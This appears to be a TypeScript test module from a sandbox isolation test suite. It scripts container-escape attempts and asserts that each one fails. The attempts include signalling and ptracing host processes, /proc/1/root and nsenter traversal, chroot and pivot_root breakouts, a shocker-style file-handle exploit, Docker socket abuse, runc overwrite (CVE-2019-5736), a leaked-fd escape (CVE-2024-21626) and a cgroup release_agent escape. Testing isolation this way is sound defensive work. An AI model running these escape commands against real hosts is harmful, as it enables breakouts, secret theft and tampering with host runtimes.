import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { runCommand } from '#server/sandboxes/engine/run-command.ts';
import type { Area } from '../attempt.ts';
import { pause } from '../echo-meter.ts';
import { processesOf } from '../host-processes.ts';

/** Prints the handle of a file, and opens it by that handle alone, as `shocker` did to the first Dockers. */
const HANDLE = `my $handle = pack("II", 128, 0) . "\\0" x 128; my $mount = pack("i", 0);
  syscall(303, -100, "$ARGV[0]\\0", $handle, $mount, 0) == 0 or die "no handle: $!"; print unpack("H*", $handle);`;
const BY_HANDLE = `my $handle = pack("H*", $ARGV[0]); open(my $root, "<", $ARGV[1]);
  my $fd = syscall(304, fileno($root), $handle, 0); die "refused: $!" if $fd < 0;
  open(my $file, "<&=", $fd); print <$file>;`;

export const PROCESSES: Area = {
  title: 'Processes, namespaces and files of the host',
  attempts: [
    {
      id: 'signal',
      tries: 'Signals host processes by their numbers, one of them running under the sandboxes’ own mapped user.',
      outcome: 'Both processes live, unsignalled.',
      async run(scene) {
        await scene.root(`for pid in ${scene.witness.pids.join(' ')}; do kill -STOP $pid; kill -KILL $pid; done
          perl -e 'for my $pid (2 .. 40000) { kill "STOP", $pid unless -d "/proc/$pid" }'`);
      },
    },
    {
      id: 'ptrace',
      tries: 'Traces host processes and reads their memory by their numbers.',
      outcome: 'The host sees no tracer on them.',
      async run(scene) {
        await scene.root(`for pid in ${scene.witness.pids.join(' ')}; do
            perl -e 'syscall(101, 16, $ARGV[0], 0, 0); syscall(101, 0x4206, $ARGV[0], 0, 0); syscall(434, $ARGV[0], 0); select undef, undef, undef, 0.3' $pid
            cat /proc/$pid/mem /proc/$pid/environ
          done`);
      },
    },
    {
      id: 'process-list',
      tries: 'Looks for the host’s processes in every /proc that it can mount.',
      outcome: 'The secret in the host processes’ command lines is not in what it found.',
      async run(scene) {
        const { stdout } = await scene.root(`mkdir -p /tmp/proc; mount -t proc none /tmp/proc
          cat /proc/[0-9]*/cmdline /tmp/proc/[0-9]*/cmdline | tr '\\0' ' '; umount /tmp/proc`);
        assert.match(stdout, /init/);
        assert.ok(!stdout.includes(scene.witness.secret));
      },
    },
    {
      id: 'proc-root',
      tries:
        'Goes through /proc/1/root, /proc/1/cwd and long chains of `..` to the host’s files, to read and to write.',
      outcome: 'The host’s secret file is not read and no file of the host is made.',
      async run(scene) {
        const { secretFile, trap } = scene.witness;
        assert.ok(existsSync(secretFile));
        const { stdout } =
          await scene.root(`for way in '' /proc/1/root /proc/1/root/../.. /proc/1/cwd/../../../../.. /proc/self/root/proc/1/root; do
            cat $way${secretFile}; echo escaped > $way${trap}; done
          nsenter -t 1 -m -p cat ${secretFile}; nsenter -t 1 -m -- sh -c 'echo escaped > ${trap}'`);
        assert.ok(!stdout.includes(scene.witness.secret));
      },
    },
    {
      id: 'pivot-root',
      tries: 'Climbs out of its root with chroot, pivot_root and a kept folder handle.',
      outcome: 'The host’s secret file is not read and no file of the host is made.',
      async run(scene) {
        const { secretFile, trap } = scene.witness;
        const { stdout } =
          await scene.root(`mkdir -p /tmp/jail; perl -e 'opendir(my $top, "/"); chroot "/tmp/jail"; chdir $top; chdir ".." for 1 .. 64; chroot "."; exec "/bin/cat", "${secretFile}"'
          unshare -m sh -c 'mkdir -p /tmp/new/old; mount -t tmpfs none /tmp/new; mkdir /tmp/new/old; cd /tmp/new; pivot_root . old; cat old${secretFile} old/../..${secretFile}; echo escaped > old${trap}'`);
        assert.ok(!stdout.includes(scene.witness.secret));
      },
    },
    {
      id: 'namespace-files',
      tries: 'Enters every namespace that it finds an open file or a /proc entry of.',
      outcome: 'Wherever it gets, the host’s secret file is not there.',
      async run(scene) {
        const { stdout } =
          await scene.root(`for ns in /proc/[0-9]*/ns/* /proc/[0-9]*/fd/*; do case $(readlink "$ns") in mnt:* | user:*) echo "$(readlink "$ns") $ns" ;; esac; done |
            sort -u -k 1,1 | while read -r _ ns; do
            timeout 2 nsenter "--mount=$ns" cat ${scene.witness.secretFile}
            timeout 2 nsenter "--user=$ns" cat ${scene.witness.secretFile}
          done; echo entered`);
        assert.match(stdout, /entered/);
        assert.ok(!stdout.includes(scene.witness.secret));
      },
    },
    {
      id: 'more-namespaces',
      tries:
        'Makes user, mount, process, network and time namespaces in each other, and tries mounts and nodes in the innermost.',
      outcome: 'Root there is still nobody on the host: nothing of the host is read, written or mounted.',
      async run(scene) {
        const { secretFile, trap } = scene.witness;
        const inner = `mknod /tmp/inner b 254 0; mount -t ext4 /dev/vda /mnt; cat ${secretFile}; echo escaped > ${trap}; kill -9 ${scene.witness.pids[1]}`;
        const { stdout } = await scene.root(
          `unshare -Urmpf --mount-proc -n -T unshare -Urm unshare -Urm sh -c '${inner}'`,
        );
        assert.ok(!stdout.includes(scene.witness.secret));
        assert.equal(existsSync(await scene.seenFromHost('/tmp/inner')), false);
      },
    },
    {
      id: 'file-handle',
      tries: 'Opens a file of the store that is in no sandbox, by the handle that the kernel knows it by.',
      outcome: 'It is not read; the host opens it by the same handle.',
      async run(scene) {
        const { storeFile, secret } = scene.witness;
        const handle = (await runCommand('perl', ['-e', HANDLE, storeFile])).stdout;
        const opened = await runCommand('perl', ['-e', BY_HANDLE, handle, scene.engine.facts.home]);
        const fromStore = await runCommand('perl', ['-e', BY_HANDLE, handle, storeFile]);
        assert.ok([opened.stdout, fromStore.stdout].includes(secret), 'the handle works on the host');
        const { stdout } = await scene.root(
          `for place in / /etc/hosts /etc/resolv.conf; do perl -e '${BY_HANDLE}' ${handle} $place; done; echo tried`,
        );
        assert.equal(stdout, 'tried\n');
      },
    },
    {
      id: 'abstract-socket',
      tries: 'Connects to a socket of the host that has a name and no file.',
      outcome: 'The host’s server has seen no connection but the test’s own.',
      async run(scene) {
        const { witness } = scene;
        await once(connect(`\0${witness.socketName}`), 'connect');
        while (witness.connections === 0) await pause(10);
        witness.forgetConnections();
        await scene.root(
          `perl -e 'use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, sockaddr_un("\\0${witness.socketName}")) or print "$!"'`,
        );
        assert.equal(witness.connections, 0);
      },
    },
    {
      id: 'engine-socket',
      tries: 'Talks to the host engine’s socket, by its path, through its own mounts and through the store.',
      outcome: 'The engine knows no container that the sandbox asked for.',
      async run(scene) {
        const { socket } = scene.engine.facts;
        await scene.root(`for way in '' /proc/1/root /proc/1/cwd/../../..; do timeout 5 docker -H unix://$way${socket} create --name escape-made alpine; done
          find / -xdev -type s -name '*docker*' -print | while read -r one; do timeout 5 docker -H unix://$one ps -a; done`);
        const names = (await scene.docker.listContainers({ all: true })).flatMap(({ Names }) => Names);
        assert.ok(!names.includes('/escape-made'));
        await scene.root('docker rm -f escape-made');
      },
    },
    {
      id: 'runtime-overwrite',
      tries:
        'Waits for the host to enter the sandbox and overwrites the host’s runtime through /proc/<pid>/exe (CVE-2019-5736).',
      outcome: 'The runtime on the host is the same file, byte for byte.',
      async run(scene) {
        const spare = await scene.spare();
        const [runtime = ''] = (await runCommand('which', ['runc'])).stdout.split('\n');
        const digest = async () =>
          createHash('sha256')
            .update(await readFile(runtime))
            .digest('hex');
        const before = await digest();
        await scene.root(
          `cat > /tmp/overwrite.pl <<'END'
          my $end = time + 8;
          while (time < $end) { for my $exe (glob "/proc/[0-9]*/exe") { my $to = readlink $exe; next unless $to =~ /runc/; open(my $file, ">>", $exe) and print $file "#"; } }
END
          cp /usr/bin/true /usr/bin/true.real; printf '#!/proc/self/exe\\n' > /usr/bin/true; chmod +x /usr/bin/true
          setsid perl /tmp/overwrite.pl > /dev/null 2>&1 &`,
          { in: spare },
        );
        for (let i = 0; i < 3; i++) {
          await spare.exec({ argv: ['/usr/bin/true'], user: 'root', timeoutMs: 5000, maxOutputBytes: 1000 });
        }
        assert.equal(await digest(), before);
      },
    },
    {
      id: 'leaked-folder',
      tries:
        'Makes its home a link to the open files of the host’s runtime, so that commands of ours begin outside (CVE-2024-21626).',
      outcome: 'No command of ours began where the host’s secret file can be read.',
      async run(scene) {
        const spare = await scene.spare();
        const { secretFile, secret } = scene.witness;
        for (const number of [6, 7, 8, 9, 10]) {
          // Each command begins where the one before it has pointed the home at.
          const link = `cat ../../../../../..${secretFile} .${secretFile}; cd /; rm -rf /root; ln -sn /proc/self/fd/${number} /root`;
          const read = await scene.root(link, { in: spare, timeoutMs: 5000 }).catch(String);
          assert.ok(!JSON.stringify(read).includes(secret));
        }
      },
    },
    {
      id: 'group-upward',
      tries:
        'Moves itself into the control group above its own, and has the host start a program with a release agent.',
      outcome: 'The host finds every process in the sandbox’s own groups, and the program’s mark was not made.',
      async run(scene) {
        await scene.root(`mkdir -p /tmp/up; mount -t cgroup2 none /tmp/up
          for file in /tmp/up/cgroup.procs /tmp/up/../cgroup.procs /sys/fs/cgroup/../cgroup.procs; do echo $$ > $file; done
          for controller in memory pids cpu freezer blkio; do
            mkdir -p /tmp/up-$controller; mount -t cgroup -o $controller none /tmp/up-$controller && {
              echo $$ > /tmp/up-$controller/../cgroup.procs; echo 1 > /tmp/up-$controller/notify_on_release
              echo 'touch ${scene.witness.trap}' > /tmp/up-$controller/release_agent; umount /tmp/up-$controller; }
          done; umount /tmp/up`);
        const groups = await Promise.all(
          (await processesOf(await scene.pidOf())).map((pid) =>
            readFile(`/proc/${pid}/cgroup`, 'utf8').catch(() => ''),
          ),
        );
        assert.ok(groups.length > 0);
        for (const lines of groups) {
          for (const line of lines.split('\n').filter((one) => one !== ''))
            assert.match(line, new RegExp(scene.attacker.ref));
        }
      },
    },
  ],
};
